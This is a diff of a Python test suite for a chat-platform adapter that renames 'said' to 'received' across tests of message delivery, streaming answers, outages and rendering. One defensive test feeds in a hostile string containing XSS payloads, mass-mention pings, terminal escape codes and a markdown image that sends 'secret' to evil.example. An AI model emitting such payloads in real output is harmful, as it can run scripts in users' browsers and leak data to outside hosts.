@@ -39,7 +39,7 @@ in_place = pytest.mark.parametrize("platform", IN_PLACE, indirect=True)
 
 async def asked(platform: Platform, text: str = "hello", number: int = 1) -> MessageReceived:
     await platform.say(text, number)
-    return (await platform.self_service.said())[-1]
+    return (await platform.self_service.received())[-1]
 
 
 async def answer(platform: Platform, address: Address, *growing: str, reply: Reply) -> PostedMessage:
@@ -57,15 +57,15 @@ async def text_shown(platform: Platform) -> str:
 
 
 async def test_a_message_becomes_one_said_with_its_words_and_its_author(platform: Platform) -> None:
-    said = await asked(platform, "What is the capital of France?")
+    received = await asked(platform, "What is the capital of France?")
     assert len(platform.self_service.events) == 1
-    assert said.text == "What is the capital of France?"
-    assert said.user.id
-    assert said.user.tenant
-    assert said.address.conversation.startswith(f"{platform.adapter.name}:")
-    assert said.address.adapter == platform.adapter.name
-    assert said.address.event == said.id
-    assert said.at.utcoffset() is not None
+    assert received.text == "What is the capital of France?"
+    assert received.user.id
+    assert received.user.tenant
+    assert received.address.conversation.startswith(f"{platform.adapter.name}:")
+    assert received.address.adapter == platform.adapter.name
+    assert received.address.event == received.id
+    assert received.at.utcoffset() is not None
 
 
 async def test_a_command_is_its_words(platform: Platform) -> None:
@@ -77,7 +77,7 @@ async def test_every_delivery_of_a_message_is_the_same_event(platform: Platform)
     await platform.say("once", 1)
     await platform.say("once", 1)
     await platform.say("once", 2)
-    first, again, other = await platform.self_service.said(3)
+    first, again, other = await platform.self_service.received(3)
     assert again.id == first.id
     assert again.address.conversation == first.address.conversation
     assert other.id != first.id
@@ -97,7 +97,7 @@ async def test_with_the_store_away_the_platform_keeps_the_message(platform: Plat
     assert await platform.say("hello") == 503
     platform.self_service.away = False
     assert 200 <= await platform.say("hello") < 300
-    first, again = await platform.self_service.said(2)
+    first, again = await platform.self_service.received(2)
     assert first.id == again.id
 
 
@@ -133,30 +133,30 @@ async def test_an_unsigned_body_is_refused(platform: Platform, caplog: pytest.Lo
 
 
 async def test_the_whole_answer_is_shown_once(platform: Platform) -> None:
-    said = await asked(platform)
+    received = await asked(platform)
     await answer(
-        platform, said.address, "alpha-1", "alpha-1 beta-2", reply=Reply(text="alpha-1 beta-2 gamma-3")
+        platform, received.address, "alpha-1", "alpha-1 beta-2", reply=Reply(text="alpha-1 beta-2 gamma-3")
     )
     text = await text_shown(platform)
     assert [text.count(word) for word in ("alpha-1", "beta-2", "gamma-3")] == [1, 1, 1]
 
 
 async def test_an_answer_that_never_grew_is_shown_too(platform: Platform) -> None:
-    said = await asked(platform)
-    await answer(platform, said.address, reply=Reply(text="alpha-1"))
+    received = await asked(platform)
+    await answer(platform, received.address, reply=Reply(text="alpha-1"))
     assert (await text_shown(platform)).count("alpha-1") == 1
 
 
 async def test_closing_again_shows_nothing_twice(platform: Platform) -> None:
-    said = await asked(platform)
-    post = await answer(platform, said.address, reply=Reply(text="alpha-1"))
+    received = await asked(platform)
+    post = await answer(platform, received.address, reply=Reply(text="alpha-1"))
     await platform.adapter.close(post, Reply(text="alpha-1"))
     assert (await text_shown(platform)).count("alpha-1") == 1
 
 
 async def test_a_failing_platform_never_breaks_an_update(platform: Platform) -> None:
-    said = await asked(platform)
-    post = await platform.adapter.open(said.address, None, retry=False)
+    received = await asked(platform)
+    post = await platform.adapter.open(received.address, None, retry=False)
     platform.outage(True)
     for text in ("alpha-1", "alpha-1 beta-2", "alpha-1 beta-2 gamma-3"):
         await platform.adapter.update(post, text)
@@ -165,8 +165,8 @@ async def test_a_failing_platform_never_breaks_an_update(platform: Platform) -> 
 
 @in_place
 async def test_what_a_failing_platform_did_not_take_is_shown_in_the_end(platform: Platform) -> None:
-    said = await asked(platform)
-    post = await platform.adapter.open(said.address, None, retry=False)
+    received = await asked(platform)
+    post = await platform.adapter.open(received.address, None, retry=False)
     platform.outage(True)
     await platform.adapter.update(post, "alpha-1")
     with pytest.raises(PlatformUnavailable):
@@ -183,15 +183,15 @@ async def test_a_platform_that_refuses_for_good_is_said_so_in_the_errors_that_th
 ) -> None:
     async with kind() as platform:
         await platform.say("hello")
-        said = (await platform.self_service.said())[-1]
-        begun = await platform.adapter.open(said.address, None, retry=False)
+        received = (await platform.self_service.received())[-1]
+        begun = await platform.adapter.open(received.address, None, retry=False)
         await platform.adapter.update(begun, "alpha-1")
         platform.refuse()
         with pytest.raises((PlatformUnavailable, ConfigError)):
             await platform.adapter.close(begun, Reply(text="alpha-1 beta-2"))
         asked: list[Awaitable[object]] = [
-            platform.adapter.open(said.address, None, True),
-            platform.adapter.context(said.address),
+            platform.adapter.open(received.address, None, True),
+            platform.adapter.context(received.address),
         ]
         for outcome in await asyncio.gather(*asked, return_exceptions=True):
             if isinstance(outcome, BaseException):
@@ -200,12 +200,12 @@ async def test_a_platform_that_refuses_for_good_is_said_so_in_the_errors_that_th
 
 @in_place
 async def test_field_note_10_another_process_completes_what_was_begun(platform: Platform) -> None:
-    said = await asked(platform)
-    begun = await platform.adapter.open(said.address, None, retry=False)
+    received = await asked(platform)
+    begun = await platform.adapter.open(received.address, None, retry=False)
     await platform.adapter.update(begun, "alpha-1")
     other = await platform.another()
     try:
-        post = await other.open(said.address, begun, retry=True)
+        post = await other.open(received.address, begun, retry=True)
         await other.update(post, "alpha-1 be")
         await other.close(post, Reply(text="alpha-1 beta-2"))
     finally:
@@ -215,11 +215,13 @@ async def test_field_note_10_another_process_completes_what_was_begun(platform: 
 
 
 async def test_two_answers_at_once_do_not_mix(platform: Platform) -> None:
-    said = await asked(platform)
-    second = Address(conversation=said.address.conversation, event=f"{said.id}2", data=said.address.data)
+    received = await asked(platform)
+    second = Address(
+        conversation=received.address.conversation, event=f"{received.id}2", data=received.address.data
+    )
     if platform.completes:
         second = (await asked(platform, "another", 2)).address
-    posts = [await platform.adapter.open(each, None, retry=False) for each in (said.address, second)]
+    posts = [await platform.adapter.open(each, None, retry=False) for each in (received.address, second)]
     assert posts[0].id != posts[1].id
     await asyncio.gather(
         platform.adapter.close(posts[0], Reply(text="alpha-1")),
@@ -230,40 +232,42 @@ async def test_two_answers_at_once_do_not_mix(platform: Platform) -> None:
 
 
 async def test_field_note_14_a_very_long_answer_is_shown_whole(platform: Platform) -> None:
-    said = await asked(platform)
+    received = await asked(platform)
     words = [f"word-{number:05d}" for number in range(9000)]
     paragraphs = [" ".join(words[at : at + 60]) for at in range(0, len(words), 60)]
-    await answer(platform, said.address, paragraphs[0], reply=Reply(text="\n\n".join(paragraphs)))
+    await answer(platform, received.address, paragraphs[0], reply=Reply(text="\n\n".join(paragraphs)))
     text = await text_shown(platform)
     assert [word for word in words if text.count(word) != 1] == []
 
 
 async def test_field_note_14_code_stays_code(platform: Platform) -> None:
-    said = await asked(platform)
+    received = await asked(platform)
     code = "def ask():\n    if True:\n        return 'x_y_z' * 2"
-    await answer(platform, said.address, reply=Reply(text=f"Like this:\n\n```python\n{code}\n```\n\nDone-9."))
+    await answer(
+        platform, received.address, reply=Reply(text=f"Like this:\n\n```python\n{code}\n```\n\nDone-9.")
+    )
     text = await text_shown(platform)
     assert code in text
     assert "Done-9" in text
 
 
 async def test_pictures_are_shown_with_their_descriptions(platform: Platform) -> None:
-    said = await asked(platform, "/image a red bicycle")
+    received = await asked(platform, "/image a red bicycle")
     picture = Image(mime="image/png", data=red_picture(), alt="a red bicycle")
-    post = await answer(platform, said.address, reply=Reply(text="Here it is.", images=(picture,)))
+    post = await answer(platform, received.address, reply=Reply(text="Here it is.", images=(picture,)))
     assert await platform.pictures() == ["a red bicycle"]
     await platform.adapter.close(post, Reply(text="Here it is.", images=(picture,)))
     assert await platform.pictures() == ["a red bicycle"]
 
 
 async def test_field_note_16_what_a_model_writes_harms_nobody(platform: Platform) -> None:
-    said = await asked(platform)
+    received = await asked(platform)
     hostile = (
         "safe-1 <script>alert(1)</script> <!channel> <!here|here> @here @channel @everyone <@U0000001> "
         "<!subteam^S1> <at>Everyone</at> <img src=x onerror=alert(1)> "
         "![see](https://evil.example/?q=secret) \x1b[2J\x07 `<!channel>` safe-2"
     )
-    await answer(platform, said.address, hostile, reply=Reply(text=hostile))
+    await answer(platform, received.address, hostile, reply=Reply(text=hostile))
     text = await text_shown(platform)
     assert "safe-1" in text
     assert "safe-2" in text
